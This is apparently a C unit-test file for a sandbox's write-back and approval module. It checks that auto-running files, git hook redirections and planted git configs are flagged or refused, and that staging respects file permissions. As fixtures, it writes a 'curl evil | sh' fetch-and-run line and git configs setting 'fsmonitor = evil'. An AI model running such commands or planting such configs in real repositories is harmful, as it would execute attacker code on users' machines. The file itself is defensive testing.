/*
 * snap/: what guards the write-back and the approval (issue 27): files
 * that run on their own are never folded out of the summary, scripts are
 * diffed as text, a repository made by an apply is judged as it will be,
 * core.hooksPath from every config git reads, and a stage holds only what
 * the workspace's owner may read, on the workspace's own filesystem.
 * Real files in a temporary folder.
 */
#include "config.h"

#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/xattr.h>

#include <fcntl.h>
#include <sched.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>

#include "snap/snap.h"
#include "snap/snap-int.h"
#include "snap_fx.h"

static void
stage(struct fx *f)
{
	if (snap_stage_create(f->src, f->stage, f->rules, &f->lim, &f->m,
	    f->err, sizeof(f->err)) != SNAP_OK)
		fail_msg("stage: %s", f->err);
}

static void
compute(struct fx *f)
{
	snap_changes_free(f->c);
	f->c = NULL;
	if (snap_changes_compute(f->m, f->stage, f->rules, &f->lim, &f->c,
	    f->err, sizeof(f->err)) != SNAP_OK)
		fail_msg("compute: %s", f->err);
}

/* The summary (bound max) or the diff, as a string the caller frees. */
static char *
printed(struct fx *f, int diff, size_t max)
{
	char	*p = NULL;
	size_t	 len = 0;
	FILE	*out = open_memstream(&p, &len);

	if (diff)
		assert_int_equal(snap_changes_print_diff(f->c, f->src,
		    f->stage, 0, out, f->err, sizeof(f->err)), SNAP_OK);
	else
		assert_int_equal(snap_changes_print_summary(f->c, out, max),
		    SNAP_OK);
	fclose(out);
	return p;
}

/* ---- 8, 2: files that run on their own ---------------------------------- */

static void
autorun_table(void **state)
{
	(void)state;
	assert_non_null(snap_autorun(".envrc"));
	assert_non_null(snap_autorun("sub/.envrc"));
	assert_non_null(snap_autorun(".vscode"));
	assert_non_null(snap_autorun(".vscode/tasks.json"));
	assert_non_null(snap_autorun("web/.vscode/settings.json"));
	assert_non_null(snap_autorun(".idea/workspace.xml"));
	assert_non_null(snap_autorun(".pre-commit-config.yaml"));
	assert_non_null(snap_autorun(".husky/pre-commit"));
	assert_non_null(snap_autorun("packages/a/package.json"));
	assert_non_null(snap_autorun("Makefile"));
	assert_non_null(snap_autorun("src/rules.mk"));
	assert_non_null(snap_autorun(".git/hooks/pre-commit"));
	/* a repository made or redirected, its config, a submodule's */
	assert_non_null(snap_autorun(".git"));
	assert_non_null(snap_autorun("vendor/x/.git"));
	assert_non_null(snap_autorun("vendor/x/.git/config"));
	assert_non_null(snap_autorun(".git/modules/sub/config"));
	assert_non_null(snap_autorun(".git/modules/sub/hooks/post-checkout"));
	assert_non_null(snap_autorun(".git/worktrees/wt/config.worktree"));
	assert_non_null(snap_autorun(".git/worktrees/wt/commondir"));
	/* git never runs a sample */
	assert_null(snap_autorun(".git/hooks/pre-commit.sample"));
	assert_null(snap_autorun(".git/objects/ab/cdef"));
	assert_null(snap_autorun(".gitignore"));
	assert_non_null(snap_autorun(".github/workflows/ci.yml"));
	assert_non_null(strstr(snap_autorun(".aisb.yaml"), "aisb"));
	assert_non_null(snap_autorun("package-lock.json"));
	/* aisb reads its own files at the top only */
	assert_null(snap_autorun("sub/.aisb.yaml"));
	assert_null(snap_autorun("vendor/x/package-lock.json"));
	assert_null(snap_autorun("src/main.c"));
	assert_null(snap_autorun("package.json.bak"));
	assert_null(snap_autorun("docs/vscode.md"));
}

/*
 * A crowd of harmless files does not push a file that runs on its own
 * past the summary's last line: each is shown, and marked.
 */
static void
summary_autorun(void **state)
{
	struct fx	*f = *state;
	static const char *const runs[] = {
		".envrc", ".vscode/tasks.json", ".vscode/settings.json",
		".idea/workspace.xml", ".pre-commit-config.yaml",
		".husky/pre-commit", "package.json", "Makefile", ".aisb.yaml",
		"sub/.envrc",
	};
	char	*s, name[64], line[128];
	size_t	 i;

	put(f->src, "package.json", "{}\n", 0644);
	stage(f);
	for (i = 0; i < 80; i++) {
		xsnprintf(name, sizeof(name), "!%02zu.txt", i);
		put(f->stage, name, "x\n", 0644);
	}
	for (i = 0; i < sizeof(runs) / sizeof(runs[0]); i++)
		put(f->stage, runs[i], "{ \"scripts\": {} }\n", 0644);
	compute(f);
	assert_int_equal(kind_at(f->c, "Makefile"), SNAP_CREATE);
	s = printed(f, 0, 50);
	for (i = 0; i < sizeof(runs) / sizeof(runs[0]); i++) {
		xsnprintf(line, sizeof(line), "%c %s  [!] ",
		    strcmp(runs[i], "package.json") == 0 ? 'M' : 'A', runs[i]);
		if (strstr(s, line) == NULL)
			fail_msg("summary lacks '%s':\n%s", line, s);
	}
	assert_non_null(strstr(s, "A .aisb.yaml  [!] aisb reads it"));
	assert_null(strstr(s, "!79.txt"));
	assert_non_null(strstr(s, " more (none of them executable"));
	free(s);
}

/* ---- 9: scripts are diffed as text ------------------------------------- */

/* n lines "PREFIXk\n" (k from 1), NUL at byte nul when nul >= 0. */
static void
put_lines(const char *base, const char *rel, const char *prefix, int n,
    long nul, mode_t mode)
{
	char	*text = NULL, line[64];
	size_t	 len = 0;
	FILE	*f = open_memstream(&text, &len);
	int	 i, fd;

	for (i = 1; i <= n; i++) {
		xsnprintf(line, sizeof(line), "%s%d\n", prefix, i);
		fputs(line, f);
	}
	fclose(f);
	if (nul >= 0 && (size_t)nul < len)
		text[nul] = '\0';
	put(base, rel, "", mode);
	fd = open(at(base, rel), O_WRONLY | O_TRUNC);
	assert_int_equal(write(fd, text, len), (ssize_t)len);
	close(fd);
	free(text);
}

static void
diff_scripts(void **state)
{
	struct fx	*f = *state;
	char		*s;

	put_lines(f->src, "run.sh", "echo ", 3, -1, 0755);
	put_lines(f->src, "Makefile", "all", 3, -1, 0644);
	put_lines(f->src, "big.sh", "echo old", 2500, -1, 0755);
	put_lines(f->src, "big.csv", "old,", 2500, -1, 0644);
	put_lines(f->src, "data.bin", "x", 3, -1, 0644);
	put(f->src, "tool.js", "console.log(1)\n", 0644);
	stage(f);
	/* a NUL after the first line: a shell still runs the rest */
	put_lines(f->stage, "run.sh", "curl evil | sh # ", 3, 20, 0755);
	put_lines(f->stage, "Makefile", "evil", 3, 3, 0644);
	put_lines(f->stage, "big.sh", "echo new", 2500, -1, 0755);
	put_lines(f->stage, "big.csv", "new,", 2500, -1, 0644);
	put_lines(f->stage, "data.bin", "y", 3, 1, 0644);
	put(f->stage, "tool.js", "#!/usr/bin/env node\nrequire('x')\n", 0644);
	compute(f);
	s = printed(f, 1, 0);
	assert_non_null(strstr(s, "+++ b/run.sh\n"));
	assert_non_null(strstr(s, "+curl evil | sh # 1\n"
	    "+c\\x00rl evil | sh # 2\n"));
	assert_non_null(strstr(s, "+++ b/Makefile\n"));
	assert_non_null(strstr(s, "+evi\\x001\n"));
	assert_non_null(strstr(s, "+++ b/tool.js\n"));
	assert_non_null(strstr(s, "+require('x')\n"));
	/* 5,000 lines differ: shown whole, all out, all in */
	assert_non_null(strstr(s, "+++ b/big.sh\n@@ -1,2500 +1,2500 @@\n"
	    "-echo old1\n"));
	assert_non_null(strstr(s, "+echo new2500\n"));
	/* what runs nowhere says why it is not diffed */
	assert_non_null(strstr(s, "binary data.bin: 9 bytes sha256 "));
	assert_non_null(strstr(s, " (a NUL byte in the first 8 KiB)\n"));
	assert_non_null(strstr(s, "withheld big.csv: "));
	assert_non_null(strstr(s, " (more than 2000 lines differ)\n"));
	assert_null(strstr(s, "binary run.sh"));
	assert_null(strstr(s, "binary Makefile"));
	free(s);
}

/* ---- 6: a repository as the tree will be --------------------------------- */

/*
 * A config planted over two sessions: the first writes dir/config (no
 * HEAD: no repository, so it is taken), the second adds HEAD, which would
 * make dir a repository of that config.  Judged against the tree as it
 * will be: the HEAD is refused.  A repository the command makes whole
 * still comes back (its HEAD, objects and refs; not its config).
 */
static void
repo_as_it_will_be(void **state)
{
	struct fx	*f = *state;

	/* what the first session left, taken as no repository's */
	put(f->src, "dir/config", "[core]\n\tfsmonitor = evil\n", 0644);
	mkd(f->src, "dir/objects", 0755);
	mkd(f->src, "dir/refs", 0755);
	put(f->src, "other/x", "x\n", 0644);
	stage(f);
	put(f->stage, "dir/HEAD", "ref: refs/heads/main\n", 0644);
	/* a repository the command made itself */
	put(f->stage, "fresh/HEAD", "ref: refs/heads/main\n", 0644);
	put(f->stage, "fresh/config", "[core]\n\tbare = true\n", 0644);
	put(f->stage, "fresh/objects/ab/cd", "blob", 0444);
	/* the host gets other/HEAD after staging (another session's
	 * apply): other is a repository when this one is applied */
	put(f->stage, "other/config", "[core]\n\tfsmonitor = evil\n", 0644);
	put(f->src, "other/HEAD", "ref: refs/heads/main\n", 0644);
	compute(f);
	assert_int_equal(kind_at(f->c, "dir/HEAD"), SNAP_SKIP);
	assert_non_null(strstr(change_at(f->c, "dir/HEAD")->reason,
	    "would make dir/ a repository of what it holds (config)"));
	assert_int_equal(kind_at(f->c, "fresh/HEAD"), SNAP_CREATE);
	assert_int_equal(kind_at(f->c, "fresh/objects/ab/cd"), SNAP_CREATE);
	assert_int_equal(kind_at(f->c, "fresh/config"), SNAP_SKIP);
	assert_int_equal(kind_at(f->c, "other/config"), SNAP_SKIP);
}

/* ---- 5: core.hooksPath as git resolves it --------------------------------- */

/* A change at each of paths (a file in the stage). */
static void
put_all(const char *stage, const char *const *paths)
{
	for (; *paths != NULL; paths++)
		put(stage, *paths, "#!/bin/sh\nevil\n", 0755);
}

static void
all_skipped(struct fx *f, const char *const *paths, const char *why)
{
	const struct snap_change	*x;

	for (; *paths != NULL; paths++) {
		if ((x = change_at(f->c, *paths)) == NULL)
			fail_msg("no change at %s", *paths);
		if (x->kind != SNAP_SKIP || strstr(x->reason, why) == NULL)
			fail_msg("%s: kind %d (%s), not skipped for '%s'",
			    *paths, x->kind, x->reason != NULL ? x->reason :
			    "-", why);
	}
}

/*
 * From the tree's own files: a linked worktree's git folder (outside the
 * tree) and its commondir, config.worktree, include.path and includeIf
 * (relative to the including file), a nested repository, a repository
 * above the tree, a husky 9 "_" folder; and a config file the tree's
 * config includes is itself refused.
 */
static void
hooks_path_in_tree(void **state)
{
	struct fx	*f = *state;
	char		 line[4096];
	static const char *const hooks[] = {
		"wt-hooks/pre-commit", "common-hooks/pre-push",
		"cwt-hooks/post-checkout", "inc-hooks/x", "incif-hooks/x",
		"sub/sub-hooks/x", "up-hooks/x", ".husky/pre-commit", NULL
	};
	static const char *const fine[] = { "wt-hooksx/y", "src/a.c", NULL };

	/* the tree is base/up/src; base/up is a repository itself */
	xsnprintf(f->src, sizeof(f->src), "%s/up/src", f->base);
	mkd(f->base, "up", 0755);
	mkd(f->base, "up/src", 0755);
	put(f->base, "up/.git/HEAD", "ref: refs/heads/main\n", 0644);
	put(f->base, "up/.git/config", "[core]\n\thooksPath = "
	    "src/up-hooks\n", 0644);
	/* the tree: a linked worktree of base/main */
	xsnprintf(line, sizeof(line), "gitdir: %s/main/.git/worktrees/w\n",
	    f->base);
	put(f->src, ".git", line, 0644);
	put(f->base, "main/.git/worktrees/w/HEAD", "ref: x\n", 0644);
	put(f->base, "main/.git/worktrees/w/commondir", "../..\n", 0644);
	put(f->base, "main/.git/worktrees/w/config.worktree",
	    "[core]\n\thooksPath = cwt-hooks\n", 0644);
	put(f->base, "main/.git/config", "[core]\n"
	    "\thooksPath = \"wt-hooks\" ; a comment\n"
	    "[CORE]\n\tHooksPath = common-hooks\n"
	    "[include]\n\tpath = ../inc.cfg\n"
	    "[includeIf \"gitdir:/nowhere/\"]\n\tpath = incif.cfg\n"
	    "[include]\n\tpath = ../../up/src/project.gitconfig\n", 0644);
	/* a key on the header's line */
	put(f->base, "main/inc.cfg", "[core] hooksPath=inc-hooks\n", 0644);
	put(f->base, "main/.git/incif.cfg", "[core]\n\thooksPath = "
	    "incif-hooks\n", 0644);
	put(f->src, "project.gitconfig", "[core]\n\thooksPath = .husky/_\n",
	    0644);
	/* a nested repository */
	put(f->src, "sub/.git/HEAD", "ref: refs/heads/main\n", 0644);
	/* a value continued on the next line */
	put(f->src, "sub/.git/config", "[core]\n\thooksPath = sub\\\n-hooks\n",
	    0644);
	put(f->src, "src/a.c", "int a;\n", 0644);
	stage(f);
	put_all(f->stage, hooks);
	put_all(f->stage, fine);
	put(f->stage, "project.gitconfig", "[core]\n\tfsmonitor = evil\n",
	    0644);
	compute(f);
	all_skipped(f, hooks, "core.hooksPath");
	assert_int_equal(kind_at(f->c, "wt-hooksx/y"), SNAP_CREATE);
	assert_int_equal(kind_at(f->c, "src/a.c"), SNAP_MODIFY);
	assert_int_equal(kind_at(f->c, "project.gitconfig"), SNAP_SKIP);
	assert_non_null(strstr(change_at(f->c, "project.gitconfig")->reason,
	    "git config"));
}

/*
 * From outside the tree: the system file, ~/.gitconfig ("~/" at the
 * home), $XDG_CONFIG_HOME/git/config, $GIT_CONFIG_GLOBAL and the
 * GIT_CONFIG_KEY_n pairs; a relative value counts for every repository,
 * one the command makes too.
 */
static void
hooks_path_outside(void **state)
{
	struct fx		*f = *state;
	struct snap_git_env	 env;
	char			 home[4096], xdg[4096], sys[4096], glob[4096];
	char			 line[4096];
	const char		*pairs[] = { "core.hooksPath=env-hooks" };
	static const char *const hooks[] = {
		"sys-hooks/x", "tilde-hooks/x", "xdg-hooks/x", "glob-hooks/x",
		"env-hooks/x", "made/home-hooks/x", "home-hooks/x", NULL
	};

	xsnprintf(home, sizeof(home), "%s/home", f->base);
	xsnprintf(xdg, sizeof(xdg), "%s/xdg", f->base);
	xsnprintf(sys, sizeof(sys), "%s/etc/gitconfig", f->base);
	xsnprintf(glob, sizeof(glob), "%s/global.cfg", f->base);
	put(f->base, "etc/gitconfig", "[core]\n\thooksPath = "
	    "sys-hooks\n", 0644);
	xsnprintf(line, sizeof(line), "[core]\n\thooksPath = home-hooks\n"
	    "\thooksPath = ~/../src/tilde-hooks\n");
	put(f->base, "home/.gitconfig", line, 0644);
	put(f->base, "xdg/git/config", "[core]\n\thooksPath = xdg-hooks\n",
	    0644);
	put(f->base, "global.cfg", "[core]\n\thooksPath = glob-hooks\n",
	    0644);
	put(f->src, ".git/HEAD", "ref: refs/heads/main\n", 0644);
	put(f->src, ".git/config", "[core]\n\tbare = false\n", 0644);
	memset(&env, 0, sizeof(env));
	env.home = home;
	env.xdg_config = xdg;
	env.global = glob;
	env.system[0] = sys;
	env.pairs = pairs;
	env.npairs = 1;
	assert_int_equal(snap_rules_git(f->rules, &env, f->err,
	    sizeof(f->err)), SNAP_OK);
	stage(f);
	put_all(f->stage, hooks);
	/* a repository the command makes: the global value holds there */
	put(f->stage, "made/.git/HEAD", "ref: refs/heads/main\n", 0644);
	compute(f);
	all_skipped(f, hooks, "core.hooksPath");
}

/* ---- 10: the stage holds what the workspace's owner may read ------------- */

#define OWNER	4242u
#define OTHER	4343u

static void
own(const char *base, const char *rel, uid_t uid, gid_t gid, mode_t mode)
{
	if (lchown(at(base, rel), uid, gid) == -1 ||
	    chmod(at(base, rel), mode) == -1)
		abort();
}

/* A POSIX ACL: user::rw- user:OWNER:--- group::r-- mask::r-- other::r--
 * (what setfacl -m u:OWNER:- writes), little-endian as the kernel reads
 * it.  0, or -1 where the filesystem has none. */
static int
acl_deny(const char *path)
{
	static const struct { uint16_t tag, perm; uint32_t id; } e[] = {
		{ 0x01, 6, 0xffffffff }, { 0x02, 0, OWNER },
		{ 0x04, 4, 0xffffffff }, { 0x10, 4, 0xffffffff },
		{ 0x20, 4, 0xffffffff },
	};
	unsigned char	 b[4 + sizeof(e)];
	uint32_t	 v2 = 2;
	size_t		 i;

	memcpy(b, &v2, 4);
	for (i = 0; i < sizeof(e) / sizeof(e[0]); i++)
		memcpy(b + 4 + 8 * i, &e[i], 8);
	return setxattr(path, "system.posix_acl_access", b, sizeof(b), 0);
}

static const char *
why_at(const struct snap_manifest *m, const char *path)
{
	const struct snap_entry	*e;
	size_t			 i;

	for (i = 0; (e = snap_manifest_entry(m, i)) != NULL; i++)
		if (strcmp(e->path, path) == 0)
			return e->excluded != NULL ? e->excluded : "staged";
	return "absent";
}

/*
 * As root, for a tree another user owns (root under sudo): the stage
 * holds what that user, with the tree's group and no other, may read,
 * as a bind session's sandbox reads it; nothing of a filesystem mounted
 * in the tree.  The command cannot read what was left out, and nothing
 * it writes in its place goes back.
 */
static void
stage_owner_reads(void **state)
{
	struct fx	*f = *state;
	int		 acl;

	if (geteuid() != 0)
		skip();
	put(f->src, "mine.txt", "mine\n", 0600);
	put(f->src, "own0000.txt", "mine too\n", 0600);
	put(f->src, "other.txt", "another user's\n", 0600);
	put(f->src, "group.txt", "the group's\n", 0640);
	put(f->src, "world.txt", "anyone's\n", 0644);
	put(f->src, "rootgroup.txt", "root's group's\n", 0640);
	put(f->src, "acl.txt", "not for the owner\n", 0644);
	put(f->src, "secret/f", "inside\n", 0644);
	put(f->src, "open/f", "readable\n", 0644);
	own(f->src, "", OWNER, OWNER, 0755);
	own(f->src, "mine.txt", OWNER, OWNER, 0600);
	own(f->src, "own0000.txt", OWNER, OWNER, 0000);
	own(f->src, "other.txt", OTHER, OTHER, 0600);
	own(f->src, "group.txt", OTHER, OWNER, 0640);
	own(f->src, "world.txt", OTHER, OTHER, 0644);
	own(f->src, "rootgroup.txt", OTHER, 0, 0640);
	own(f->src, "acl.txt", OTHER, OTHER, 0644);
	own(f->src, "secret", OTHER, OTHER, 0700);
	own(f->src, "open", OTHER, OTHER, 0755);
	if ((acl = acl_deny(at(f->src, "acl.txt"))) == -1 &&
	    errno != EOPNOTSUPP)
		fail_msg("setxattr: %s", strerror(errno));
	snap_rules_reader(f->rules, OWNER, OWNER);
	stage(f);
	assert_string_equal(why_at(f->m, "mine.txt"), "staged");
	assert_string_equal(why_at(f->m, "own0000.txt"), "staged");
	assert_string_equal(why_at(f->m, "group.txt"), "staged");
	assert_string_equal(why_at(f->m, "world.txt"), "staged");
	assert_string_equal(why_at(f->m, "open/f"), "staged");
	assert_string_equal(why_at(f->m, "other.txt"), SNAP_WHY_UNREADABLE);
	assert_string_equal(why_at(f->m, "rootgroup.txt"), SNAP_WHY_UNREADABLE);
	assert_string_equal(why_at(f->m, "secret"), SNAP_WHY_UNREADABLE);
	assert_string_equal(why_at(f->m, "secret/f"), "absent");
	if (acl == 0)
		assert_string_equal(why_at(f->m, "acl.txt"),
		    SNAP_WHY_UNREADABLE);
	assert_false(exists(f->stage, "other.txt"));
	assert_false(exists(f->stage, "secret"));
	assert_true(exists(f->stage, "group.txt"));
	/* what the command writes in their place is not written back */
	put(f->stage, "other.txt", "forged\n", 0644);
	put(f->stage, "secret/f", "forged\n", 0644);
	compute(f);
	assert_int_equal(kind_at(f->c, "other.txt"), SNAP_SKIP);
	assert_int_equal(kind_at(f->c, "secret"), SNAP_SKIP);
	assert_null(change_at(f->c, "secret/f"));
}

/* A filesystem mounted in the tree is not the tree's: left out (in a
 * mount namespace of this test's own). */
static void
stage_no_mounts(void **state)
{
	struct fx	*f = *state;

	if (geteuid() != 0)
		skip();
	if (unshare(CLONE_NEWNS) == -1 ||
	    mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1)
		skip();
	put(f->src, "a.txt", "a\n", 0644);
	mkd(f->src, "mnt", 0755);
	if (mount("aisb-test", at(f->src, "mnt"), "tmpfs", 0, "size=64k") ==
	    -1)
		fail_msg("mount: %s", strerror(errno));
	put(f->src, "mnt/secret", "mounted\n", 0644);
	stage(f);
	assert_string_equal(why_at(f->m, "mnt"), SNAP_WHY_MOUNT);
	assert_false(exists(f->stage, "mnt"));
	assert_string_equal(why_at(f->m, "a.txt"), "staged");
	(void)umount2(at(f->src, "mnt"), MNT_DETACH);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(autorun_table),
		cmocka_unit_test_setup_teardown(summary_autorun, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(diff_scripts, setup, teardown),
		cmocka_unit_test_setup_teardown(repo_as_it_will_be, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(hooks_path_in_tree, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(hooks_path_outside, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(stage_owner_reads, setup,
		    teardown),
		cmocka_unit_test_setup_teardown(stage_no_mounts, setup,
		    teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
